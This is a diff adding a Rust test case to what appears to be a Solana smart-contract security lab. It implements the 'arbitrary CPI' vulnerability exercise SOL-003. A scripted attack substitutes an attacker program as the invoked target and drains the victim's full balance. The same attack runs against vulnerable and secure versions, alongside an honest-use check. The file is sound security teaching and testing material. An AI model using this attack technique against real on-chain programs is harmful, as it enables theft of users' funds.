@@ -0,0 +1,112 @@
+//! The user picks the program to invoke; a malicious front end picks the
+//! attacker's, which spends the user's signature
+
+use anyhow::{ensure, Result as AnyResult};
+use lab_instructions::arbitrary_cpi::invoke_ix;
+use lab_svm::Svm;
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+use solana_system_interface::instruction as system_instruction;
+use solana_system_interface::program as system_program;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::{attacker, owner, victim, vulnerability, Harness, Version};
+
+/// target_program is the attacker's program, which transfers the signing user's
+/// SOL away
+#[vulnerability(
+    id = "SOL-003",
+    category = "ArbitraryCpi",
+    severity = "Critical",
+    difficulty = "Advanced",
+    rejection = "incorrect program id for instruction",
+    prerequisite = "missing_signer_check",
+    prerequisite = "pda_issues",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: arbitrary CPI",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/5-arbitrary-cpi",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(harness, arbitrary_cpi::process_instruction),
+        Version::Secure => attack(harness, arbitrary_cpi_secure::process_instruction),
+    }
+}
+
+fn attack(svm: &mut Svm, program: ProcessInstruction) -> AnyResult<()> {
+    let program_id = deploy(svm, "arbitrary_cpi", program);
+    let relay = relay(svm, &program_id);
+    let attacker_program = deploy(
+        svm,
+        "arbitrary_cpi_attacker",
+        arbitrary_cpi_attacker::process_instruction,
+    );
+    let victim_key = fund(svm, &victim());
+    let attacker_key = fund(svm, &attacker());
+    let savings = svm.lamports(&victim_key);
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Drain {
+            account: victim_key,
+            amount: savings,
+        },
+    )?;
+
+    // What the victim meant to sign: a small system transfer. The front
+    // end swapped in the attacker's program as the target
+    let data = system_instruction::transfer(&victim_key, &attacker_key, 1_000).data;
+    let before = svm.lamports(&attacker_key);
+    svm.send(
+        &[invoke_ix(
+            program_id,
+            victim_key,
+            attacker_program,
+            attacker_key,
+            relay,
+            data,
+        )],
+        &[&victim()],
+    )?;
+
+    let gained = svm.lamports(&attacker_key) - before;
+    ensure!(gained >= savings, "attacker gained only {gained}");
+    ctf::capture(svm, &flag)
+}
+
+/// The program's relay account, unlocked; the vulnerable version ignores
+/// it
+fn relay(svm: &mut Svm, program_id: &Pubkey) -> Pubkey {
+    let (relay, _bump) = arbitrary_cpi_secure::RELAY.find([], program_id);
+    program_account(svm, relay, program_id, vec![0], 0)
+}
+
+/// The victim's small transfer, through the system program as intended
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let program = match harness.version() {
+        Version::Vulnerable => arbitrary_cpi::process_instruction,
+        Version::Secure => arbitrary_cpi_secure::process_instruction,
+    };
+    let program_id = deploy(harness, "arbitrary_cpi", program);
+    let relay = relay(harness, &program_id);
+    let victim_key = fund(harness, &victim());
+    let recipient = fund(harness, &owner());
+
+    let data = system_instruction::transfer(&victim_key, &recipient, 1_000).data;
+    harness.send(
+        &[invoke_ix(
+            program_id,
+            victim_key,
+            system_program::ID,
+            recipient,
+            relay,
+            data,
+        )],
+        &[&victim()],
+    )?;
+    Ok(())
+}